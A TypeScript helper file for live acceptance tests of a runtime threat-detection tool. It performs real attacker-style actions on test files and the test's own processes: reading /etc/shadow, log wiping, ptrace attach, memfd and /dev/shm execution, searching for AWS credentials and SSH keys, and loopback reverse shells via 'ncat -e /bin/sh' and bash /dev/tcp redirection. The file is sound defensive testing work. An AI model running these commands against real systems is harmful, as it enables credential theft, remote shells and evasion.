// Real actions the live acceptance tests perform on this machine, each the behaviour a detection
// rule describes, done safely (in a scratch directory, on test files, against the test's own
// processes) and undone afterwards. Every action returns the pid of the process that acts, so
// alerts can be matched to it.
import { spawn } from 'node:child_process';
import {
  chmodSync, copyFileSync, existsSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync,
} from 'node:fs';
import { createServer, type Server } from 'node:net';
import { networkInterfaces, tmpdir } from 'node:os';
import path from 'node:path';
import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { FakeContainer, LOADGEN, run, sleep, waitExit } from './helpers.js';

export const PYTHON = '/usr/bin/python3';

const PTRACE_ATTACH = `
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
pid = int(sys.argv[1])
if libc.ptrace(16, pid, None, None) != 0:
    sys.exit(1)
os.waitpid(pid, 0)
libc.ptrace(17, pid, None, None)
`;

const PTRACE_TRACEME = `
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace(0, 0, None, None)
`;

const PACKET_SOCKET = `
import socket
socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0).close()
`;

// A two-instruction socket filter (r0 = 0; exit), loaded and closed at once.
const BPF_PROG_LOAD = `
import ctypes, os, struct, sys
libc = ctypes.CDLL(None, use_errno=True)
insns = ctypes.create_string_buffer(struct.pack('<BBhi', 0xb7, 0, 0, 0) + struct.pack('<BBhi', 0x95, 0, 0, 0))
license = ctypes.create_string_buffer(b'GPL')
attr = ctypes.create_string_buffer(struct.pack('<IIQQ', 1, 2, ctypes.addressof(insns), ctypes.addressof(license)), 128)
fd = libc.syscall(321, 5, attr, 128)
if fd < 0:
    sys.exit(1)
os.close(fd)
`;

/** A non-loopback IPv4 address of this machine, if it has one. */
export function externalIpv4(): string | undefined {
  for (const list of Object.values(networkInterfaces())) {
    for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
  }
  return undefined;
}

export class Scene {
  readonly work: string;
  readonly home: string;
  readonly container: FakeContainer | undefined;
  readonly cleanups: (() => void)[] = [];
  server: Server | undefined;
  port = 0;
  /** Overlay mount: files created through `merged` live in the upper layer. */
  overlay: string | undefined;
  readonly tag = randomBytes(4).toString('hex');

  constructor() {
    this.work = realpathSync(mkdtempSync(path.join(tmpdir(), 'peregrine-scene-')));
    chmodSync(this.work, 0o755);
    this.home = path.join(this.work, 'home');
    mkdirSync(this.home);
    this.container = FakeContainer.available() ? new FakeContainer('docker') : undefined;
  }

  /** A TCP server on every address (the test process is not captured, its clients are). */
  async listen(): Promise<void> {
    this.server = createServer((s) => {
      s.on('error', () => undefined);
      s.end();
    });
    await new Promise<void>((resolve) => this.server!.listen(0, '0.0.0.0', resolve));
    this.port = (this.server.address() as { port: number }).port;
  }

  /** Mounts an overlay in the scene (false when the kernel refuses). */
  mountOverlay(): boolean {
    const base = path.join(this.work, 'ovl');
    for (const d of ['lower', 'upper', 'work', 'merged']) mkdirSync(path.join(base, d), { recursive: true });
    try {
      execFileSync('mount', ['-t', 'overlay', 'overlay', '-o',
        `lowerdir=${base}/lower,upperdir=${base}/upper,workdir=${base}/work`, `${base}/merged`], { stdio: 'ignore' });
    } catch {
      return false;
    }
    this.overlay = path.join(base, 'merged');
    this.cleanups.push(() => execFileSync('umount', [this.overlay!], { stdio: 'ignore' }));
    return true;
  }

  /** Runs a command inside the fake container (or on the host when there is none). */
  inContainer(command: readonly string[], env?: NodeJS.ProcessEnv): Promise<{ pid: number; code: number | null; stdout: string }> {
    const [cmd, ...args] = this.container ? this.container.wrap(command) : command;
    return run(cmd!, args, env ? { env } : {});
  }

  // ------------------------------------------------------------------ actions

  async readShadow(): Promise<number> {
    return (await run('cat', ['/etc/shadow'])).pid;
  }

  async symlinkShadow(): Promise<number> {
    return (await run('ln', ['-s', '/etc/shadow', path.join(this.work, 'shadow-symlink')])).pid;
  }

  async hardlinkShadow(): Promise<number> {
    // Same file system as /etc (hard links cannot cross file systems); removed with the scene.
    return (await run('ln', ['/etc/shadow', path.join(this.work, 'shadow-hardlink')])).pid;
  }

  /** Truncates a log file of the test's own in /var/log. */
  async clearLog(): Promise<{ pid: number; file: string }> {
    const file = `/var/log/peregrine-live-test-${this.tag}.log`;
    writeFileSync(file, 'entry\n');
    this.cleanups.push(() => rmSync(file, { force: true }));
    return { pid: (await run('/bin/sh', ['-c', `: > ${file}`])).pid, file };
  }

  async shred(): Promise<number> {
    const file = path.join(this.work, 'junk.bin');
    writeFileSync(file, randomBytes(4096));
    return (await run('shred', ['-u', file])).pid;
  }

  /** Runs a copy of `true` from /dev/shm. */
  async execFromDevShm(): Promise<{ pid: number; exe: string }> {
    const exe = `/dev/shm/peregrine-live-test-${this.tag}`;
    copyFileSync('/usr/bin/true', exe);
    chmodSync(exe, 0o755);
    this.cleanups.push(() => rmSync(exe, { force: true }));
    return { pid: (await run(exe, [])).pid, exe };
  }

  /** Runs a copy of `true` from the scene directory (under /tmp). */
  async execFromTmp(): Promise<{ pid: number; exe: string }> {
    const exe = path.join(this.work, 'dropped-tool');
    copyFileSync('/usr/bin/true', exe);
    chmodSync(exe, 0o755);
    return { pid: (await run(exe, [])).pid, exe };
  }

  /** strace attaching to a sleeping process of ours (PTRACE_SEIZE). */
  async straceAttach(): Promise<number> {
    const sleeper = spawn(LOADGEN, ['sleep', '1500'], { stdio: 'ignore' });
    await sleep(100);
    const tracer = await run('strace', ['-qq', '-e', 'trace=none', '-p', String(sleeper.pid)]);
    await waitExit(sleeper);
    return tracer.pid;
  }

  /** A Python program attaching to a sleeping process of ours (PTRACE_ATTACH), then detaching. */
  async pythonPtraceAttach(): Promise<{ pid: number; target: number }> {
    const sleeper = spawn(LOADGEN, ['sleep', '1500'], { stdio: 'ignore' });
    await sleep(100);
    const tracer = await run(PYTHON, ['-c', PTRACE_ATTACH, String(sleeper.pid)]);
    sleeper.kill('SIGKILL');
    await waitExit(sleeper);
    return { pid: tracer.pid, target: sleeper.pid! };
  }

  async pythonTraceme(): Promise<number> {
    return (await run(PYTHON, ['-c', PTRACE_TRACEME])).pid;
  }

  async findAwsCredentials(): Promise<number> {
    return (await run('find', [this.work, '-path', '*/.aws/credentials'])).pid;
  }

  async findPrivateKeys(): Promise<number> {
    return (await run('find', [this.work, '-name', 'id_rsa'])).pid;
  }

  /** The load generator copying `true` into a memfd and executing it from there. */
  async memfdExec(): Promise<number> {
    return (await run(LOADGEN, ['memfd-exec', '/usr/bin/true'])).pid;
  }

  /**
   * A terminal shell entering the container the way `docker exec -it` does: a program named
   * runc (here a copy of `script`, which gives its child a pseudo-terminal) starts a shell.
   */
  async terminalShellInContainer(): Promise<number> {
    const runc = path.join(this.work, 'runc');
    if (!existsSync(runc)) copyFileSync('/usr/bin/script', runc);
    chmodSync(runc, 0o755);
    const r = await this.inContainer([runc, '-qec', '/bin/true', '/dev/null'], { ...process.env, SHELL: '/bin/sh' });
    return r.pid;
  }

  async packetSocketInContainer(): Promise<number> {
    return (await this.inContainer([PYTHON, '-c', PACKET_SOCKET])).pid;
  }

  /** bash in the container making a connection its standard input and output (dup2 onto 0 and 1). */
  async redirectStdioToSocketInContainer(): Promise<number> {
    return (await this.inContainer(['/bin/bash', '-c', `exec 0<>/dev/tcp/127.0.0.1/${this.port} 1>&0`])).pid;
  }

  /** A program copied into the overlay's upper layer, run in the container (container drift). */
  async dropAndExecInContainer(): Promise<{ pid: number; exe: string } | undefined> {
    if (this.overlay === undefined) return undefined;
    const exe = path.join(this.overlay, 'dropped-binary');
    copyFileSync('/usr/bin/true', exe);
    chmodSync(exe, 0o755);
    return { pid: (await this.inContainer([exe])).pid, exe };
  }

  /** The load generator (not a shell) starting a shell in the container. */
  async shellInContainer(): Promise<number> {
    return (await this.inContainer([LOADGEN, 'forkexec', '1', '/bin/sh', '-c', 'true'])).pid;
  }

  /** ncat connecting to the test's server and handing /bin/sh over to the connection. */
  async ncatExec(): Promise<number> {
    return (await run('ncat', ['-e', '/bin/sh', '127.0.0.1', String(this.port)])).pid;
  }

  /** A shell whose standard input and output are a TCP connection. */
  async shellOnSocket(): Promise<number> {
    return (await run('/bin/bash', ['-c', `exec 0<>/dev/tcp/127.0.0.1/${this.port} 1>&0; exec /bin/sh -c true`])).pid;
  }

  /** Writes the test's fake AWS credentials, then reads them with cat. */
  async readCloudCredentials(): Promise<{ pid: number; file: string }> {
    const dir = path.join(this.home, '.aws');
    mkdirSync(dir, { recursive: true });
    const file = path.join(dir, 'credentials');
    writeFileSync(file, '[default]\naws_access_key_id = AKIAEXAMPLE\n');
    return { pid: (await run('cat', [file])).pid, file };
  }

  async writeBelowBinaryDir(): Promise<{ pid: number; file: string }> {
    const file = `/usr/local/bin/peregrine-live-test-${this.tag}`;
    this.cleanups.push(() => rmSync(file, { force: true }));
    return { pid: (await run('/bin/sh', ['-c', `echo '#!/bin/sh' > ${file}`])).pid, file };
  }

  async writeBelowEtc(): Promise<{ pid: number; file: string }> {
    const file = `/etc/peregrine-live-test-${this.tag}.conf`;
    this.cleanups.push(() => rmSync(file, { force: true }));
    return { pid: (await run('/bin/sh', ['-c', `echo setting=1 > ${file}`])).pid, file };
  }

  /** Empties a shell history file with cp (opened with O_TRUNC by a program that is not a shell). */
  async emptyShellHistory(): Promise<{ pid: number; file: string }> {
    const file = path.join(this.home, '.bash_history');
    writeFileSync(file, 'ls\n');
    return { pid: (await run('cp', ['/dev/null', file])).pid, file };
  }

  /** A setuid-root copy of `id`, run by nobody. */
  async runSetuidRoot(): Promise<{ pid: number; exe: string; euid: string }> {
    const exe = path.join(this.work, 'suid-probe');
    copyFileSync('/usr/bin/id', exe);
    chmodSync(exe, 0o4755);
    const r = await run('setpriv', ['--reuid=65534', '--regid=65534', '--clear-groups', exe, '-u']);
    return { pid: r.pid, exe, euid: r.stdout.trim() };
  }

  async chmodSetuid(): Promise<{ pid: number; file: string }> {
    const file = path.join(this.work, 'will-be-setuid');
    writeFileSync(file, '');
    return { pid: (await run('chmod', ['u+s', file])).pid, file };
  }

  async pythonBpfLoad(): Promise<{ pid: number; code: number | null }> {
    const r = await run(PYTHON, ['-c', BPF_PROG_LOAD]);
    return { pid: r.pid, code: r.code };
  }

  async pythonPacketSocket(): Promise<number> {
    return (await run(PYTHON, ['-c', PACKET_SOCKET])).pid;
  }

  async packageManagerInContainer(): Promise<number> {
    return (await this.inContainer(['dpkg', '--version'])).pid;
  }

  /** bash in the container connecting to this machine's external address. */
  async outboundFromContainerShell(address: string): Promise<number> {
    return (await this.inContainer(['/bin/bash', '-c', `exec 3<>/dev/tcp/${address}/${this.port}`])).pid;
  }

  async dispose(): Promise<void> {
    this.server?.close();
    for (const c of this.cleanups.reverse()) {
      try {
        c();
      } catch {
        // best effort: a file already gone, a mount already released
      }
    }
    await this.container?.remove();
    rmSync(this.work, { recursive: true, force: true });
  }
}
